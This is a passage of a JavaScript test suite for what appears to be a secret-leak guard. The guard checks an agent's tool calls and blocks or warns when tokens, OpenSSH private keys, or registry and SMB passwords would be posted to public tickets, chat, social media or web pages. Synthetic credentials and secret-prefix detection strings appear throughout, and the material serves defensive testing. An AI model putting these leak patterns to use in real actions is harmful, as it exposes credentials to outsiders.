        "https://github.acme-corp.com/api/v3/repos/acme/app/issues",
      ]) {
        expectLayerVerdict(
          layer,
          {
            action: "http_request",
            target,
            params: { method: "POST", headers: { Authorization: `Bearer ${gh}` }, json: {} },
          },
          "ALLOW",
        );
      }
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://gitlab.example-corp.net/api/v4/projects/7/pipeline",
          params: {
            method: "POST",
            headers: { "PRIVATE-TOKEN": `glpat-${fake(20, URLSAFE, 402)}` },
          },
        },
        "ALLOW",
      );
    });

    test("an unknown-issuer key presented to the host being called stays a WARN", () => {
      expectLayerVerdict(
        layer,
        {
          action: "http_request",
          target: "https://api.small-saas.example/v2/items",
          params: { method: "POST", headers: { "X-Api-Key": fake(40, URLSAFE, 403) }, json: {} },
        },
        "WARN",
      );
    });

    test("a secret-manager tool that shares an item out is no longer a store", () => {
      const request = {
        action: "bitwarden.send_item",
        params: { item: "deploy", note: `key ${STRIPE} until the migration` },
      };
      assert.notEqual(layerVerdict(layer, request), "ALLOW");
      expectLayerVerdict(
        layer,
        { action: "vault_kv_put", params: { path: "kv/app", value: STRIPE } },
        "ALLOW",
      );
    });

    test("BLOCKs a ticket comment whose visibility says public or customer-facing, with a qualifier", () => {
      for (const visibility of [
        "public (help center)",
        "customer-facing",
        "shared_with_partners",
      ]) {
        expectLayerVerdict(
          layer,
          { action: "jira_comment", params: { issue: "OPS-1", visibility, body: `use ${gh}` } },
          "BLOCK",
        );
      }
      expectLayerVerdict(
        layer,
        {
          action: "jira_comment",
          params: { issue: "OPS-1", visibility: "internal (staff)", body: `use ${gh}` },
        },
        "WARN",
      );
    });

    test("BLOCKs a page shared to the web or an issue on a repository named public", () => {
      expectLayerVerdict(
        layer,
        { action: "wiki.update_page", params: { share_to_web: true, body: `key ${STRIPE}` } },
        "BLOCK",
      );
      expectLayerVerdict(
        layer,
        {
          action: "gitlab.create_issue_note",
          params: { project: "acme/public-sdk", body: `repro with ${STRIPE}` },
        },
        "BLOCK",
      );
    });

    test("BLOCKs an Ed25519 OpenSSH key whose first line is mostly zero bytes", () => {
      const body = [
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
        `QyNTUxOQAAACB${fake(57, B64, 404)}`,
        fake(70, B64, 405),
        fake(40, B64, 406),
      ];
      for (const sep of ["\n", "\\n"]) {
        const text = `-----BEGIN OPENSSH PRIVATE KEY-----${sep}${body.join(sep)}${sep}-----END OPENSSH PRIVATE KEY-----`;
        expectLayerVerdict(
          layer,
          { action: "discord_send", target: "#general", content: text },
          "BLOCK",
        );
      }
    });

    test("finds registry and SMB passwords on a command line", () => {
      for (const line of [
        `docker login -u deploy -p ${fake(14, ALNUM, 407)} registry.example.io`,
        `smbclient //fs01/share -U backup%${fake(12, ALNUM, 408)}`,
      ]) {
        expectLayerVerdict(
          layer,
          { action: "linkedin_post", content: `my setup: ${line}` },
          "BLOCK",
        );
      }
    });
  });

  test("stays linear on 64 KB of near-misses", () => {
    const piece = "ghp_ sk_live_ AKIA -----BEGIN eyJhbGciOi password= xoxb- ";
    const content = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
    const started = process.hrtime.bigint();
    checkLayer(layer, email(content));
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    assert.ok(ms < 500, `took ${ms} ms`);
  });
});
